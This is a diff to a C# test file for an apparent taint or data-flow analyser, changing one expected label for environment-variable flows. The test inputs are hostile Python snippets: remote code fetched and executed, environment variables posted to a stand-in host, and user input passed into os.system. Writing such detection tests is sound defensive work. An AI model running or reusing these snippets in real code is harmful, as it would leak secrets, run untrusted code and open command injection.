@@ -10,7 +10,7 @@ public sealed class FlowTests(ParserContainer parser)
     [InlineData("import requests\nexec(requests.get('http://192.0.2.1/').text)", "network requests.get > code builtins.exec 0")]
     [InlineData("import requests as r\nt = r.get('http://192.0.2.1/').content.decode()\nu = t.strip()\nexec(u)", "network requests.get > code builtins.exec 0")]
     [InlineData("import urllib.request\nwith urllib.request.urlopen('http://192.0.2.1/') as a:\n    exec(a.read())", "network urllib.request.urlopen > code builtins.exec 0")]
-    [InlineData("import os, requests\nrequests.post('http://192.0.2.1/', json={'e': os.environ['A']})", "environment os.environ > network requests.post json")]
+    [InlineData("import os, requests\nrequests.post('http://192.0.2.1/', json={'e': os.environ['A']})", "environment os.environ.A > network requests.post json")]
     [InlineData("import os, requests\nrequests.post('http://192.0.2.1/', data=dict(os.environ))", "environment os.environ > network requests.post data")]
     [InlineData("import os\nos.system('ls ' + input())", "stdin builtins.input > shell os.system 0")]
     [InlineData("import os\nos.system(f'ls {input()}')", "stdin builtins.input > shell os.system 0")]
